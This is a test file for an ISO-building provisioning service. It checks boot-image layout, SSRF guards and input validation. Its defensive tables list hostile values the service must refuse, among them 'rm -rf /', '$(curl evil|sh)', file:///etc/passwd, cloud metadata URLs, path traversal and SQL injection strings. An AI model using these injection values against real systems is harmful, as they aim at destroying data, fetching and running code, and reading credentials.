import { execFileSync } from "node:child_process";
import dns from "node:dns/promises";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { storeFor } from "@clusterplatform/core";
import { startTestProvisioner, type TestProvisioner } from "@clusterplatform/test-kit/provisioner";
import { eventually } from "@clusterplatform/test-kit/ports";
import { EFI_ARCHES, PART_NAMES, isPublicAddress, peMachine, urlProblem } from "../src";

/** The smallest file peMachine reads as a PE image for `machine` (enough for the ISO builder, which never runs it). */
function fakePe(machine: number): Buffer {
	const file = Buffer.alloc(512);
	file.write("MZ", 0, "latin1");
	file.writeUInt32LE(0x80, 0x3c);
	file.write("PE\0\0", 0x80, "latin1");
	file.writeUInt16LE(machine, 0x84);
	return file;
}

describe("peMachine", () => {
	it("reads the COFF machine of a PE image, null for anything else", () => {
		for (const { machine } of Object.values(EFI_ARCHES)) expect(peMachine(fakePe(machine))).toBe(machine);
		expect(peMachine(fs.readFileSync("/usr/lib/ipxe/ipxe.efi"))).toBe(EFI_ARCHES.x64.machine);
		expect(peMachine(Buffer.from("#!ipxe\n"))).toBeNull();
		expect(peMachine(Buffer.alloc(64))).toBeNull();
		const truncated = fakePe(0x14c).subarray(0, 0x82);
		expect(peMachine(truncated)).toBeNull();
	});
});

const LABEL = "CPP TEST ISO";

describe("isPublicAddress / urlProblem (SSRF guard)", () => {
	it.each([
		["127.0.0.1", false], ["10.1.2.3", false], ["172.20.0.1", false], ["192.168.1.1", false], ["169.254.169.254", false],
		["100.64.0.1", false], ["0.0.0.0", false], ["::1", false], ["fe80::1", false], ["fd00::1", false], ["::ffff:127.0.0.1", false],
		["224.0.0.1", false], ["93.184.216.34", true], ["2606:2800:220:1:248:1893:25c8:1946", true], ["not-an-ip", false],
	])("%s public: %s", (address, expected) => {
		expect(isPublicAddress(address)).toBe(expected);
	});

	it.each([
		["file:///etc/passwd", /http\(s\)/], ["gopher://example.org/", /http\(s\)/], ["ftp://example.org/x", /http\(s\)/],
		["http://127.0.0.1:6379/", /loopback/], ["http://[::1]/x", /loopback/], ["http://169.254.169.254/latest/meta-data", /link-local/],
		["http://localhost/x", /localhost/], ["http://example.org/a b", /spaces/], ["http://example.org/\u0000", /control/], ["http://user:pw@example.org/x", /credentials/], ["not-a-url", /absolute/],
	])("refuses %s", (url, reason) => {
		expect(urlProblem(url)).toMatch(reason);
	});

	it("accepts a public https URL", () => {
		expect(urlProblem("https://example.org/ipxe.efi")).toBeNull();
	});
});

describe("isos", () => {
	let provisioner: TestProvisioner;
	let scratch: string;
	let parts: Record<string, any>;
	let ipxe: { bios: string; uefi: string };

	const finished = (entity: string, id: number) =>
		eventually(async () => {
			const row = await (await provisioner.api(`/${entity}/${id}`)).json();
			return ["done", "failed"].includes(row.status) ? row : undefined;
		}, 60_000, `${entity} ${id} finished`);

	async function post(entity: string, body: Record<string, unknown>) {
		const response = await provisioner.api(`/${entity}`, { method: "POST", json: body });
		return { status: response.status, body: await response.json() };
	}

	async function build(entity: string, body: Record<string, unknown>) {
		const created = await post(entity, body);
		expect(created.status).toBe(201);
		return finished(entity, created.body.id);
	}

	beforeAll(async () => {
		scratch = fs.mkdtempSync(path.join(os.tmpdir(), "cpp-isos-test-"));
		provisioner = await startTestProvisioner({ services: ["gateway", "grubs", "grubs-worker", "syslinuxs", "syslinuxs-worker", "isos", "isos-worker"] });
		const store = storeFor(provisioner.config);
		ipxe = {
			bios: (await store.putFile("test-parts/ipxe.lkrn", "/usr/lib/ipxe/ipxe.lkrn")).url,
			uefi: (await store.putFile("test-parts/ipxe.efi", "/usr/lib/ipxe/ipxe.efi")).url,
		};
		const [grubImg, grubEfiX64, grubImgOtherLabel, ldLinux, isolinuxBin, isohdpfxBin] = await Promise.all([
			build("grubs", { label: LABEL, architecture: "x64", fragment: "img" }),
			build("grubs", { label: LABEL, architecture: "x64", fragment: "efi" }),
			build("grubs", { label: "ANOTHER LABEL", architecture: "x64", fragment: "img" }),
			build("syslinuxs", { fragment: "ldlinux.c32" }),
			build("syslinuxs", { fragment: "isolinux.bin" }),
			build("syslinuxs", { fragment: "isohdpfx.bin" }),
		]);
		parts = { grubImg, grubEfiX64, grubImgOtherLabel, ldLinux, isolinuxBin, isohdpfxBin };
	}, 120_000);

	afterAll(async () => {
		await provisioner?.stop();
		if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
	});

	const byIds = () => ({
		label: LABEL,
		ipxeUefiUrl: ipxe.uefi,
		ipxeBiosUrl: ipxe.bios,
		grubImgId: parts.grubImg.id,
		grubEfiX64Id: parts.grubEfiX64.id,
		ldLinuxId: parts.ldLinux.id,
		isolinuxBinId: parts.isolinuxBin.id,
		isohdpfxBinId: parts.isohdpfxBin.id,
		script: "#!ipxe\ndhcp\nchain http://10.0.2.2/api/mainscripts/1\n",
	});

	it("builds from parts given by id, with the layout the boot chain needs", async () => {
		const row = await build("isos", byIds());
		expect(row).toMatchObject({ status: "done", progress: 100, error: null, grubImgId: parts.grubImg.id, grubImgUrl: null });
		const iso = path.join(scratch, "by-ids.iso");
		fs.writeFileSync(iso, Buffer.from(await (await fetch(row.url)).arrayBuffer()));
		const listing = execFileSync("xorriso", ["-indev", iso, "-find", "/", "-type", "f"], { stdio: ["ignore", "pipe", "ignore"] }).toString();
		for (const file of ["/ipxe.lkrn", "/ipxe.efi", "/script.ipxe", "/boot/grub.img", "/isolinux/isolinux.bin", "/isolinux/ldlinux.c32", "/isolinux/isolinux.cfg", "/EFI/BOOT/BOOTX64.EFI"]) {
			expect(listing).toContain(`'${file}'`);
		}
		const cfg = path.join(scratch, "isolinux.cfg");
		execFileSync("xorriso", ["-osirrox", "on", "-indev", iso, "-extract", "/isolinux/isolinux.cfg", cfg], { stdio: "ignore" });
		expect(fs.readFileSync(cfg, "utf8")).toMatch(/LINUX \/ipxe\.lkrn\n\s+INITRD \/script\.ipxe/);
	});

	it("with ipxeIa32/ipxeArm64: an El Torito EFI image holding GRUB's BOOTX64.EFI and iPXE as BOOTIA32.EFI and BOOTAA64.EFI, also on the ISO's file system", async () => {
		const store = storeFor(provisioner.config);
		fs.writeFileSync(path.join(scratch, "ia32.efi"), fakePe(EFI_ARCHES.ia32.machine));
		fs.writeFileSync(path.join(scratch, "aa64.efi"), fakePe(EFI_ARCHES.aa64.machine));
		const ia32 = await store.putFile("test-parts/ia32/ipxe.efi", path.join(scratch, "ia32.efi"));
		const aa64 = await store.putFile("test-parts/aa64/ipxe.efi", path.join(scratch, "aa64.efi"));
		// A grub.zip whose ia32 loader is spelled in lower case: iPXE's BOOTIA32.EFI replaces it, no second file.
		const zipDir = path.join(scratch, "lower-case-zip");
		fs.mkdirSync(path.join(zipDir, "EFI", "BOOT"), { recursive: true });
		fs.writeFileSync(path.join(zipDir, "EFI", "BOOT", "bootia32.efi"), "a GRUB that would chainload the x64 /ipxe.efi");
		execFileSync("zip", ["-q", "-r", path.join(scratch, "lower.zip"), "EFI"], { cwd: zipDir });
		const lowerZip = await store.putFile("test-parts/lower/grub.zip", path.join(scratch, "lower.zip"));
		const row = await build("isos", { ...byIds(), grubEfiX86Url: lowerZip.url, ipxeIa32Url: ia32.url, ipxeArm64Url: aa64.url });
		expect(row).toMatchObject({ status: "done", ipxeIa32Url: ia32.url, ipxeArm64Url: aa64.url, ipxeIa32Id: null });
		const iso = path.join(scratch, "more-arches.iso");
		fs.writeFileSync(iso, Buffer.from(await (await fetch(row.url)).arrayBuffer()));
		const listing = execFileSync("xorriso", ["-indev", iso, "-find", "/", "-type", "f"], { stdio: ["ignore", "pipe", "ignore"] }).toString();
		for (const file of ["/boot/efiboot.img", "/EFI/BOOT/BOOTX64.EFI", "/EFI/BOOT/BOOTIA32.EFI", "/EFI/BOOT/BOOTAA64.EFI", "/ipxe.efi"]) expect(listing).toContain(`'${file}'`);
		expect(listing).not.toContain("'/boot/grub.img'");
		expect(listing.toUpperCase().split("/EFI/BOOT/BOOTIA32.EFI").length - 1).toBe(1);
		const onIso = path.join(scratch, "iso-BOOTIA32.EFI");
		execFileSync("xorriso", ["-osirrox", "on", "-indev", iso, "-extract", "/EFI/BOOT/BOOTIA32.EFI", onIso], { stdio: "ignore" });
		expect(fs.readFileSync(onIso)).toEqual(fakePe(EFI_ARCHES.ia32.machine));
		const image = path.join(scratch, "efiboot.img");
		execFileSync("xorriso", ["-osirrox", "on", "-indev", iso, "-extract", "/boot/efiboot.img", image], { stdio: "ignore" });
		const env = { ...process.env, MTOOLS_SKIP_CHECK: "1" };
		expect(execFileSync("mdir", ["-i", image, "-b", "::/EFI/BOOT"], { env }).toString().split("\n").filter(Boolean).sort()).toEqual(
			["::/EFI/BOOT/BOOTAA64.EFI", "::/EFI/BOOT/BOOTIA32.EFI", "::/EFI/BOOT/BOOTX64.EFI"],
		);
		for (const [loader, machine] of [["BOOTIA32.EFI", EFI_ARCHES.ia32.machine], ["BOOTAA64.EFI", EFI_ARCHES.aa64.machine], ["BOOTX64.EFI", EFI_ARCHES.x64.machine]] as const) {
			const out = path.join(scratch, `out-${loader}`);
			execFileSync("mcopy", ["-n", "-i", image, `::/EFI/BOOT/${loader}`, out], { env });
			expect(peMachine(fs.readFileSync(out))).toBe(machine);
		}
		// The El Torito entry (and the GPT's EFI partition) is the new image.
		const report = execFileSync("xorriso", ["-indev", iso, "-report_el_torito", "plain"], { stdio: ["ignore", "pipe", "ignore"] }).toString();
		expect(report).toMatch(/El Torito boot img :\s+2\s+UEFI\s+y\s+none\s+0x0000\s+0x00\s+\d+\s+\d+/);
		expect(report).toContain("/boot/efiboot.img");
	});

	it("fails the build naming the field when a UEFI loader is built for another CPU", async () => {
		const store = storeFor(provisioner.config);
		const row = await finished("isos", (await post("isos", { ...byIds(), ipxeIa32Url: ipxe.uefi })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/ipxeIa32Url: an EFI image for x64, not ia32/);
		fs.writeFileSync(path.join(scratch, "not-pe.efi"), "#!ipxe\n");
		const notPe = await store.putFile("test-parts/not-pe/ipxe.efi", path.join(scratch, "not-pe.efi"));
		const second = await finished("isos", (await post("isos", { ...byIds(), ipxeArm64Url: notPe.url })).body.id);
		expect(second.error).toMatch(/ipxeArm64Url: not an EFI \(PE\) image/);
		// With an extra loader the GRUB image is opened as FAT (its loaders are copied out by name).
		fs.writeFileSync(path.join(scratch, "aa64.efi"), fakePe(EFI_ARCHES.aa64.machine));
		const aa64 = await store.putFile("test-parts/aa64-b/ipxe.efi", path.join(scratch, "aa64.efi"));
		const third = await finished("isos", (await post("isos", { ...byIds(), grubImgId: undefined, grubImgUrl: ipxe.bios, ipxeArm64Url: aa64.url })).body.id);
		expect(third.error).toMatch(/grubImgUrl: not a FAT image with an EFI\/BOOT folder/);
	});

	it("refuses ipxeIa32Id/ipxeArm64Id when no ipxes service runs here, naming the field", async () => {
		for (const field of ["ipxeIa32Id", "ipxeArm64Id"]) {
			const response = await post("isos", { ...byIds(), [field]: 1 });
			expect(response.status).toBe(422);
			expect(response.body.data).toEqual([expect.objectContaining({ field, message: expect.stringContaining("ipxes service is not running") })]);
		}
	});

	it("answers identical inputs from the content-addressed cache: done at once, same artifact, survives the first row's DELETE", async () => {
		const first = await build("isos", byIds());
		const second = await post("isos", byIds());
		expect(second.status).toBe(201);
		expect(second.body).toMatchObject({ status: "done", progress: 100, url: first.url });
		expect((await provisioner.api(`/isos/${first.id}`, { method: "DELETE" })).status).toBe(200);
		// Read to the end: a body left unread holds its connection open (and the gateway's shutdown).
		const download = await fetch(second.body.url);
		expect(download.status).toBe(200);
		expect((await download.arrayBuffer()).byteLength).toBeGreaterThan(0);
	});

	it("never reuses an ISO built from outside URLs (their content may change)", async () => {
		// Not cacheable: a public URL part. The build fails (no network here), but the point is the fresh row.
		const body = { ...byIds(), ipxeBiosUrl: "http://192.0.2.1.nip.invalid/ipxe.lkrn" };
		const created = await post("isos", body);
		expect(created.status).toBe(201);
		expect(created.body.status).toBe("queued");
	});

	it("records a failure with its reason: a store URL whose artifact is gone", async () => {
		const gone = storeFor(provisioner.config).url("test-parts/deleted.lkrn");
		const row = await finished("isos", (await post("isos", { ...byIds(), ipxeBiosUrl: gone })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/ipxeBiosUrl: .* is not in the store/);
	});

	it("refuses a grub.zip holding files outside EFI/BOOT/ (it could replace the boot config), with the reason", async () => {
		const dir = path.join(scratch, "evil-zip");
		fs.mkdirSync(path.join(dir, "isolinux"), { recursive: true });
		fs.writeFileSync(path.join(dir, "isolinux", "isolinux.cfg"), "DEFAULT evil\n");
		execFileSync("zip", ["-q", "-r", path.join(scratch, "grub.zip"), "isolinux"], { cwd: dir });
		const evil = await storeFor(provisioner.config).putFile("test-parts/evil/grub.zip", path.join(scratch, "grub.zip"));
		const row = await finished("isos", (await post("isos", { ...byIds(), grubEfiX64Id: undefined, grubEfiX64Url: evil.url })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/grubEfiX64Url: the zip holds "isolinux\/", outside EFI\/BOOT\//);
	});

	it("refuses a grub.zip holding a symlink (a later part written to that name would follow it anywhere), writing nothing through it", async () => {
		const dir = path.join(scratch, "link-zip");
		const target = path.join(scratch, "must-stay-untouched");
		fs.writeFileSync(target, "original\n");
		fs.mkdirSync(path.join(dir, "EFI", "BOOT"), { recursive: true });
		fs.symlinkSync(target, path.join(dir, "EFI", "BOOT", "BOOTIA32.EFI"));
		execFileSync("zip", ["-q", "-r", "--symlinks", path.join(scratch, "link.zip"), "EFI"], { cwd: dir });
		const linked = await storeFor(provisioner.config).putFile("test-parts/link/grub.zip", path.join(scratch, "link.zip"));
		const row = await finished("isos", (await post("isos", { ...byIds(), grubEfiX64Id: undefined, grubEfiX64Url: linked.url })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/grubEfiX64Url: the zip holds "EFI\/BOOT\/BOOTIA32.EFI", which is not a regular file/);
		expect(fs.readFileSync(target, "utf8")).toBe("original\n");
	});

	it("refuses at build time a host name that resolves to a loopback address (SSRF), with the reason", async () => {
		const name = os.hostname();
		const addresses = await dns.lookup(name, { all: true }).catch(() => []);
		if (!addresses.length || addresses.some((a) => isPublicAddress(a.address))) {
			console.log(`SKIPPED: ${name} does not resolve to a loopback/private address on this machine`);
			return;
		}
		const row = await finished("isos", (await post("isos", { ...byIds(), ipxeBiosUrl: `http://${name}:1/ipxe.lkrn` })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/ipxeBiosUrl: .* resolves to .*refused/);
	});

	const hostile: [string, (b: Record<string, unknown>) => Record<string, unknown>, string][] = [
		["shell metacharacters in the label", (b) => ({ ...b, label: "ISO; rm -rf /" }), "label"],
		["$(…) in the label", (b) => ({ ...b, label: "$(reboot)" }), "label"],
		["a newline in the label", (b) => ({ ...b, label: "ISO\nchainloader x" }), "label"],
		["a NUL in the label", (b) => ({ ...b, label: "ISO\u0000" }), "label"],
		["a file:// part", (b) => ({ ...b, ipxeBiosUrl: "file:///etc/passwd" }), "ipxeBiosUrl"],
		["a loopback part", (b) => ({ ...b, ipxeBiosUrl: "http://127.0.0.1:6379/" }), "ipxeBiosUrl"],
		["a metadata-service part", (b) => ({ ...b, ipxeUefiUrl: "http://169.254.169.254/latest/meta-data/" }), "ipxeUefiUrl"],
		["an IPv6 loopback part", (b) => ({ ...b, ipxeUefiUrl: "http://[::1]/ipxe.efi" }), "ipxeUefiUrl"],
		["a non-string URL", (b) => ({ ...b, ipxeUefiUrl: { href: "http://x" } }), "ipxeUefiUrl"],
		["a path-traversal id", (b) => ({ ...b, grubImgId: "../../etc/passwd" }), "grubImgId"],
		["a string id", (b) => ({ ...b, grubImgId: "1" }), "grubImgId"],
		["a fractional id", (b) => ({ ...b, ldLinuxId: 1.5 }), "ldLinuxId"],
		["a negative id", (b) => ({ ...b, ldLinuxId: -1 }), "ldLinuxId"],
		["an unknown id", (b) => ({ ...b, ldLinuxId: 999999 }), "ldLinuxId"],
		["an id of the wrong kind of part", (b) => ({ ...b, ldLinuxId: parts.isolinuxBin.id }), "ldLinuxId"],
		["a grub.zip as grubImg", (b) => ({ ...b, grubImgId: parts.grubEfiX64.id }), "grubImgId"],
		["a GRUB image searching another label", (b) => ({ ...b, grubImgId: parts.grubImgOtherLabel.id }), "label"],
		["a GRUB image (by store URL) searching another label", (b) => ({ ...b, grubImgId: undefined, grubImgUrl: parts.grubImgOtherLabel.url }), "label"],
		["a part both by URL and by id", (b) => ({ ...b, ldLinuxUrl: parts.ldLinux.url }), "ldLinuxId"],
		["a missing required part", (b) => ({ ...b, isohdpfxBinId: undefined }), "isohdpfxBinUrl"],
		["a script that is not iPXE", (b) => ({ ...b, script: "rm -rf /" }), "script"],
		["a script with a NUL", (b) => ({ ...b, script: "#!ipxe\nchain x\u0000" }), "script"],
		["an unknown field", (b) => ({ ...b, xorrisoArgs: ["-e", "/etc/shadow"] }), "xorrisoArgs"],
	];
	// Every part field, URL and id alike, with the usual hostile values.
	for (const part of PART_NAMES) {
		hostile.push(
			[`file:// in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "file:///etc/passwd" }), `${part}Url`],
			[`$(…) in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "$(curl evil|sh)" }), `${part}Url`],
			[`a NUL in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "http://example.org/x\u0000;reboot" }), `${part}Url`],
			[`a path traversal in ${part}Id`, (b) => ({ ...b, [`${part}Url`]: undefined, [`${part}Id`]: "../../../etc/passwd" }), `${part}Id`],
			[`a number as text in ${part}Id`, (b) => ({ ...b, [`${part}Url`]: undefined, [`${part}Id`]: "1; DROP TABLE isos" }), `${part}Id`],
		);
	}
	it.each(hostile)("refuses %s with a 422 naming the field, and writes no row", async (_what, change, field) => {
		const before = (await (await provisioner.api("/isos")).json()).total;
		const response = await post("isos", change(byIds()));
		expect(response.status).toBe(422);
		expect(JSON.stringify(response.body.data)).toContain(field);
		expect((await (await provisioner.api("/isos")).json()).total).toBe(before);
	});
});
